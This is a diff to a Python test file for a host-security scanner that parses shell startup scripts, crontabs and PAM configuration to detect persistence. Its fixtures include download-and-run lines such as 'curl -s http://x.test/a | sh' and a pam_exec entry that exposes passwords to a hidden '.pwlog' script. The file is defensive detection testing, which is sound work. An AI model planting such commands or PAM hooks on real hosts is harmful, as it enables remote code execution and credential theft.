@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import os
 import subprocess
+from dataclasses import replace
 from pathlib import Path
 
 from hypothesis import given, settings
@@ -17,6 +18,7 @@ from hostguard.host.accounts import collect_accounts
 from hostguard.host.base import RootHost
 from hostguard.host.persistence import (
     Entry,
+    PamJump,
     collect_entries,
     command_words,
     parse_apt_conf,
@@ -24,9 +26,11 @@ from hostguard.host.persistence import (
     parse_pam,
     parse_preload,
     parse_pth,
+    parse_script_lines,
     parse_udev,
     parse_unit,
     rules,
+    shell_continuation,
 )
 from hostguard.respond.apply import apply
 from tests.conftest import HITS, build_tree, need_tool, run_one
@@ -117,6 +121,88 @@ def test_small_formats() -> None:
     udev = parse_udev('A=="x", RUN+="/usr/local/bin/on-x %k"\nB=="y", RUN{builtin}+="kmod load y"\n'
                       '# RUN+="/tmp/z"\nC=="z", RUN{program}="net-hook"\n', "/r.rules")
     assert [(e.line, e.command) for e in udev] == [(1, "/usr/local/bin/on-x %k"), (4, "net-hook")]
+
+
+def test_a_shell_command_over_several_lines_is_one_entry_judged_whole() -> None:
+    text = ("# c\n"
+            'test -n "$PS1" &&\n  curl -s http://x.test/a | sh\n'          # 2-3: `&&` goes on
+            "curl -s http://x.test/b |\n\n# why\nsh\n"                    # 4-7: `|` goes on past a comment
+            "curl -s \\\n  http://x.test/c | bash\n"                       # 8-9: a backslash joins
+            "x && # note\n y\n"                                            # 10-11: the comment is not the command
+            "echo 'a |'\n"                                                  # 12: a quoted `|` goes nowhere
+            "echo done # | \\\n"                                            # 13: so does one in a comment
+            "ls >|\n"                                                       # 14: `>|` is a redirection
+            "echo a\\ \n")                                                 # 15: an escaped space, no backslash-newline
+    entries = parse_script_lines(text, "/etc/profile.d/x.sh", "shell_startup")
+    assert [(e.line, e.end_line, e.command) for e in entries] == [
+        (2, 3, 'test -n "$PS1" && curl -s http://x.test/a | sh'),
+        (4, 7, "curl -s http://x.test/b | sh"),
+        (8, 9, "curl -s   http://x.test/c | bash"),
+        (10, 11, "x && y"),
+        (12, 0, "echo 'a |'"), (13, 0, "echo done # | \\"), (14, 0, "ls >|"), (15, 0, "echo a\\")]
+    assert entries[1].physical_lines() == [(4, "curl -s http://x.test/b |"), (5, ""), (6, "# why"), (7, "sh")]
+    # read line by line, neither half of `curl ... |` + `sh` downloads and runs; joined, it does
+    assert judge(replace(entries[1], database="dpkg"))[0] == Severity.HIGH
+    assert [judge(Entry("shell_startup", "/x", n, raw, raw))[0] for n, raw in entries[1].physical_lines()] == [None] * 4
+    assert [shell_continuation(x) for x in ("a \\", "a &&", "a ||", "a |&", "a |", "a &", "a \"b \\", "a '|'",
+                                            "a # |", "a \\\\", "b=$#|")] == [
+        "backslash", "operator", "operator", "operator", "operator", None, None, None, None, None, "operator"]
+
+
+def test_cron_lines_are_never_joined() -> None:
+    """Debian's cron reads the command to the end of its line (crontab(5): "up to a newline or %"):
+    a trailing backslash or pipe does not continue it (tests/checks/test_persistence_fixes.py shows crontab
+    refusing the next line as an entry of its own)."""
+    text = "* * * * * curl -s http://x.test/a |\n  sh\n* * * * * /usr/bin/a \\\n* * * * * /usr/bin/b\n"
+    entries = parse_crontab(text, "/var/spool/cron/crontabs/alice", system=False, user="alice")
+    assert [(e.line, e.end_line, e.command) for e in entries] == [
+        (1, 0, "curl -s http://x.test/a |"), (3, 0, "/usr/bin/a \\"), (4, 0, "/usr/bin/b")]
+
+
+def _pam(root: Path, service: str, text: str) -> None:
+    _write(root, f"etc/pam.d/{service}", text)
+
+
+def _pam_entries(root: Path) -> dict[str, Entry]:
+    return {e.path: e for e in _entries(root) if e.kind == "pam_exec"}
+
+
+def test_pam_exec_entries_carry_the_jumps_that_skip_them(tmp_path: Path) -> None:
+    root = build_tree(tmp_path / "host")
+    _pam(root, "sudo", "#%PAM-1.0\n"
+         "auth [success=3 new_authtok_reqd=1 default=ignore] pam_unix.so\n"  # 3 skips the line, 1 lands on it
+         "auth optional pam_env.so\n"
+         "auth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.pwlog\n"
+         "auth requisite pam_deny.so\n"
+         "auth required pam_permit.so\n"
+         "session [success=1 default=ignore] pam_exec.so /usr/local/sbin/.s\n")  # another type: not counted
+    _pam(root, "login", "@include sudo\n")  # a second service reads the same lines
+    _pam(root, "cron", "auth [success=1 default=ignore] pam_unix.so\nauth optional pam_exec.so /usr/local/sbin/.c\n"
+         "auth required pam_permit.so\n")
+    _pam(root, "su", "auth [success=1 default=ignore] pam_unix.so\nauth required pam_permit.so\n"
+         "auth optional pam_exec.so /usr/local/sbin/.u\n")  # the jump lands on pam_permit, before the line
+    found = {(e.path, e.line): e for e in _entries(root) if e.kind == "pam_exec"}
+    sudo = found[("/etc/pam.d/sudo", 4)]
+    assert sudo.pam_unknown is None
+    assert sudo.pam_jumps == (PamJump("/etc/pam.d/sudo", 2, "auth [success=3 new_authtok_reqd=1 default=ignore] "
+                                      "pam_unix.so", (("success", 3),), ("login", "sudo")),)
+    assert found[("/etc/pam.d/sudo", 7)].pam_jumps == ()
+    assert [(j.line, j.spans) for j in found[("/etc/pam.d/cron", 2)].pam_jumps] == [(1, (("success", 1),))]
+    assert found[("/etc/pam.d/su", 3)].pam_jumps == ()
+
+
+def test_pam_jumps_that_cannot_be_counted_are_said(tmp_path: Path) -> None:
+    root = build_tree(tmp_path / "host")
+    _pam(root, "sudo", "auth [success=1 default=ignore] pam_unix.so\nauth substack sudo-extra\n"
+         "auth optional pam_exec.so /usr/local/sbin/.pwlog\nauth required pam_permit.so\n")
+    _pam(root, "sudo-extra", "auth required pam_env.so\nauth required pam_faildelay.so\n")
+    assert "substack" in (_pam_entries(root)["/etc/pam.d/sudo"].pam_unknown or "")
+    # without a jump before the line, a substack changes nothing a delete could upset
+    _pam(root, "sudo", "auth substack sudo-extra\nauth optional pam_exec.so /usr/local/sbin/.pwlog\n")
+    assert _pam_entries(root)["/etc/pam.d/sudo"].pam_unknown is None
+    # a service file that is not text may include the line: its jumps are not known
+    (root / "etc/pam.d/junk").write_bytes(b"auth \x00\x01 include sudo\n")
+    assert "/etc/pam.d/junk cannot be read" in (_pam_entries(root)["/etc/pam.d/sudo"].pam_unknown or "")
 
 
 # -- judgement ------------------------------------------------------------------------------------------
@@ -279,6 +365,23 @@ def test_parsers_never_raise_on_garbage(text: str) -> None:
     parse_preload(text, "/etc/ld.so.preload")
     parse_udev(text, "/etc/udev/rules.d/x.rules")
     command_words(text)
+    shell_continuation(text)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.one_of(TEXT, SHELLISH))
+def test_shell_entries_are_the_files_own_lines_in_order(text: str) -> None:
+    """Whatever the text, every entry is written on lines of the file exactly as they read (what the fix's
+    DeleteLine steps check), entries never share a line, and each starts on a command line."""
+    lines = text.splitlines()
+    last = 0
+    for entry in parse_script_lines(text, "/etc/profile", "shell_startup"):
+        physical = entry.physical_lines()
+        assert physical[0][0] == entry.line > last
+        assert all(lines[n - 1] == raw for n, raw in physical)
+        assert physical[-1][0] == (entry.end_line or entry.line)
+        assert lines[entry.line - 1].strip() and not lines[entry.line - 1].strip().startswith("#")
+        last = physical[-1][0]
 
 
 def test_garbage_files_in_every_place_are_read_without_error(tmp_path: Path) -> None:
